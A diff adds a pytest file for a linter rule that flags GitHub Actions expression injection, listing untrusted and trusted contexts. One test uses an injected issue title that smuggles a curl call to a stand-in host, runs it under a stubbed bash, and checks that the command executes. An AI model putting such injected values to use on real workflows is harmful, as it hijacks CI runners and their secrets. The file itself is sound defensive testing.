@@ -1,0 +1,51 @@
+"""QC407 expression-injection. Real bash runs the script as the runner writes it, with an
+issue title an attacker chose: the title's command runs (a stub records it)."""
+
+from __future__ import annotations
+
+import subprocess
+from pathlib import Path
+
+import pytest
+from _support import Finder
+from harness.stubs import StubDir
+
+CODE = "QC407"
+found = Finder(CODE, host="github-actions")
+
+WORKFLOW = ("on: issues\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n"
+            "      - run: |\n          echo \"Title: ${{ github.event.issue.title }}\"\n")
+
+
+def test_the_title_runs_as_code(tmp_path: Path) -> None:
+    stubs = StubDir(tmp_path, names=["curl"])
+    title = '"; curl -s https://x.example/p; echo "'
+    # What the runner writes: the expression replaced by its value, then `bash -e {0}`.
+    script = tmp_path / "step.sh"
+    script.write_text(f'echo "Title: {title}"\n')
+    subprocess.run(["bash", "-e", str(script)], env=stubs.env(), capture_output=True,
+                   timeout=30, check=True)
+    assert stubs.records() == [["curl", "-s", "https://x.example/p"]]
+    [(line, col, d)] = found(WORKFLOW)
+    assert (line, col) == (7, 24) and d.severity == "error"
+    assert "env:" in d.message.explanation
+
+
+@pytest.mark.parametrize("expression", [
+    "github.event.pull_request.head.ref", "github.head_ref", "github.event.comment.body",
+    "github.event.head_commit.message", "github.event.pull_request.title",
+])
+def test_other_untrusted_contexts(expression: str) -> None:
+    [(_, _, d)] = found(WORKFLOW.replace("github.event.issue.title", expression))
+    assert d.severity == "error"
+
+
+@pytest.mark.parametrize("expression", ["github.run_id", "matrix.python", "env.X",
+                                        "secrets.TOKEN", "steps.x.outputs.y"])
+def test_trusted_contexts(expression: str) -> None:
+    assert found(WORKFLOW.replace("github.event.issue.title", expression)) == []
+
+
+def test_inputs_are_information() -> None:
+    [(_, _, d)] = found(WORKFLOW.replace("github.event.issue.title", "inputs.version"))
+    assert d.severity == "info"
